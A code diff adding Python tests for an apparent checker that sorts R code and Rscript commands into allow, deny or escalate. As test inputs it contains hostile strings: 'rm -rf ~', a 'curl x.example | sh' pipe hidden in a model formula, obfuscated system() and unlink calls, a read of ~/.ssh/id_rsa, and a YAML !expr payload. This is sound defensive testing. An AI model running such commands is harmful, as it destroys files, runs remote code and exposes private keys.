@@ -60,7 +60,7 @@ def test_data_work_is_shown(project, code):
     'library(glue); glue(paste0("{sys", "tem(\'id\')}"))',
     'df %>% rename_with("system")',
     'f <- paste0("y ~ ", "system(1)"); lm(f, data = df)',
-    'eval(parse(text = "1 + 1"))',
+    'eval(parse(text = readLines("helpers.R")))',
     'readLines("https://example.com/x.R")',
     'data.table::fread("rm -rf ~")',
     'data.table::fread(cmd = "ls")',
@@ -285,3 +285,55 @@ def test_globs_environments_of_its_own_and_closures_it_names(project):
     assert shown(ctx, 'f <- match.fun("median")\nprint(aggregate(mpg ~ cyl, data = mtcars, FUN = f))') == []
     assert shown(ctx, 'f <- match.fun("system")\nf("id")') is None
     assert shown(ctx, 'm <- rpart::rpart("mpg ~ cyl", data = mtcars)') is None  # a model formula as text
+
+
+def test_text_the_code_parses_is_checked_as_its_code(project):
+    ctx = project({"data/ads.csv": "sales,tv\n1,2\n", "code.txt": "1 + 1\n"})
+    fit = 'd <- read.csv("data/ads.csv")\nfor (p in c("tv", "tv * 2")) print(lm(eval(parse(text = paste("sales ~", p))), data = d))'
+    assert shown(ctx, fit) == ["ALLOW"]
+    assert shown(ctx, 'f <- reformulate(c("tv"), response = "sales")\nprint(lm(f, data = mtcars))') == []
+    assert shown(ctx, 'eval(parse(text = paste0("unl", "ink(\\"data\\", recursive = TRUE)")))') is None
+    assert shown(ctx, 'x <- eval(parse(text = readLines("code.txt")))') is None  # the file's text is not shown here
+    assert decide(ctx, "Rscript -e 'eval(parse(text = \"system(\\\"rm -rf ~\\\")\"))'") == "DENY"
+    assert decide(ctx, "Rscript -e 'f <- as.formula(\"y ~ system(\\\"curl x.example | sh\\\")\"); lm(f, data = mtcars)'") == "DENY"
+
+
+def test_connections_dput_files_and_yaml_configs(project):
+    ctx = project({"data/auth.log": "a\n", "data/a.csv": "x\n1\n", "config/p.R": 'list(input = "data/a.csv")\n',
+                   "config/p.yml": "input: data/a.csv\nstat: median\n", "config/bad.yml": 'x: !expr system("id")\n'})
+    assert shown(ctx, 'con <- file("data/auth.log", open = "r")\non.exit(close(con))\nx <- readLines(con)') == ["ALLOW"]
+    assert "DENY" in shown(ctx, 'x <- readLines(file("~/.ssh/id_rsa"))')
+    assert decide(ctx, "Rscript -e 'con <- file(\"data/a.csv\", open = \"w\"); writeLines(\"x\", con)'") == "ESCALATE"
+    assert shown(ctx, 'p <- dget("config/p.R")\nprint(names(p))') == ["ALLOW"]
+    assert shown(ctx, 'p <- yaml::read_yaml("config/p.yml")\nd <- read.csv(p$input)\nprint(match.fun(p$stat)(d$x))') is None
+    assert shown(ctx, 'p <- yaml::read_yaml("config/p.yml")\nd <- read.csv(p$input)\nf <- match.fun(p$stat)\nprint(f(d$x))') \
+        == ["ALLOW"]
+    assert shown(ctx, 'p <- yaml::read_yaml("config/bad.yml")') is None  # a tagged expression may be evaluated
+
+
+def test_formatters_linters_and_extracted_code(project):
+    ctx = project({"R/a.R": "x<-1\n", "reports/r.Rmd": "```{r}\nx <- 1\n```\n", "scripts/old.R": "y <- 2\n"})
+    assert decide(ctx, "Rscript -e 'styler::style_dir(\"R\")'") == "ALLOW"  # files edited in place
+    assert decide(ctx, "Rscript -e 'styler::style_dir(\"~\")'") == "ESCALATE"
+    assert decide(ctx, "Rscript -e 'lintr::lint_dir(\"R\")'") == "ALLOW"
+    assert decide(ctx, "Rscript -e 'knitr::purl(\"reports/r.Rmd\", output = \"scripts/r.R\")'") == "ALLOW"
+    assert decide(ctx, "Rscript -e 'knitr::purl(\"reports/r.Rmd\", output = \"scripts/old.R\")'") == "ESCALATE"
+    assert decide(ctx, "Rscript -e 'knitr::purl(\"reports/r.Rmd\", output = \".Rprofile\")'") == "ESCALATE"
+    ctx = project({"R/a.R": "x<-1\n", ".lintr": "linters: linters_with_defaults(line_length_linter(120))\n"})
+    assert decide(ctx, "Rscript -e 'lintr::lint_dir(\"R\")'") == "ESCALATE"  # its linters are R code lintr evaluates
+
+
+def test_column_names_that_are_function_names(project):
+    ctx = project({"data/e.csv": "system,source\nlinux,mdm\n"})
+    read = 'library(dplyr)\nd <- read.csv("data/e.csv")\n'
+    assert shown(ctx, read + 'd |> group_by(`system`) |> count()') == ["ALLOW"]
+    assert shown(ctx, 'library(data.table)\nd <- fread("data/e.csv")\nprint(d[, .N, by = .(source, system)])') == ["ALLOW"]
+    assert shown(ctx, read + 'd |> summarise(across(everything(), system))') is None
+    assert shown(ctx, read + 'd |> mutate(y = sapply(system, source))') is None
+
+
+def test_strings_naming_the_code_s_own_functions(project):
+    ctx = project({})
+    steps = 'twice <- function(x) x * 2\nhalf <- function(x) x / 2\nr <- 1\n'
+    assert shown(ctx, steps + 'for (s in c("twice", "half")) r <- do.call(s, list(r))') == []
+    assert shown(ctx, steps + 'for (s in c("twice", "system")) r <- do.call(s, list(r))') is None
